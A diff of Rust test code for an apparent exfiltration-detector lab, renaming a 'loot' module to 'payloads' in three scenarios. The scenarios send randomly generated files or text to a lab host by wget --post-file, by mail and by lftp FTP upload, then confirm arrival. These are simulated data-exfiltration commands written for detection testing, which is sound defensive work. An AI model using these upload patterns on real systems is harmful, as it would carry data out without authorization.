@@ -7,7 +7,7 @@ use anyhow::{Context, Result, ensure};
 use detector_tests::wait_for_tcp_listener;
 
 use super::ways;
-use crate::lab::loot;
+use crate::lab::payloads;
 use crate::lab::random::Random;
 use crate::lab::scene::{Outcome, Scene, ensure_arrived};
 use crate::lab::tools::ftp::{self, CONTROL_PORT};
@@ -25,7 +25,7 @@ pub(in crate::lab) fn wget(scene: &Scene<'_>, random: &mut Random) -> Result<Out
     let log = scene.scratch.join("sink.log").display().to_string();
     let _server = scene.start_script(scene.internet(), "sink.py", &[POST_PORT.to_string(), log])?;
     wait_for_tcp_listener(scene.internet(), POST_PORT, START)?;
-    let found = loot::small(random);
+    let found = payloads::small(random);
     let file = format!("--post-file={}", scene.document(&found.name, &found.bytes)?);
     let url = format!("http://{}:{POST_PORT}/up/{}", target.host, random.word(7));
     scene.run("wget", &["--quiet", "--output-document=/dev/null", &file, &url])?;
@@ -76,7 +76,7 @@ pub(in crate::lab) fn mail(scene: &Scene<'_>, random: &mut Random) -> Result<Out
     let target = scene.named_target(random)?;
     let _server = mail::serve(scene, &[MAIL_PORT])?;
     let length = random.size(500, 40_000);
-    let found = loot::text(random, length);
+    let found = payloads::text(random, length);
     let own = format!("{}@{}", random.word(8), target.host);
     let head = format!("From: {own}\r\nTo: {own}\r\nSubject: Recovered {}\r\n\r\n", random.word(6));
     let text = String::from_utf8_lossy(&found.bytes).replace('\n', "\r\n");
@@ -106,7 +106,7 @@ pub(in crate::lab) fn lftp_ftp(scene: &Scene<'_>, random: &mut Random) -> Result
     let target = scene.named_target(random)?;
     let passive = random.between(10_000, 30_000) as u16;
     let _server = ftp::serve(scene, passive, 1)?;
-    let found = loot::small(random);
+    let found = payloads::small(random);
     let file = scene.document(&found.name, &found.bytes)?;
     ways::lftp_ftp(scene, &target, &format!("put {file}"))?;
     let arrived = fs::metadata(scene.inbox(&found.name)).context("nothing arrived")?.len() as usize;
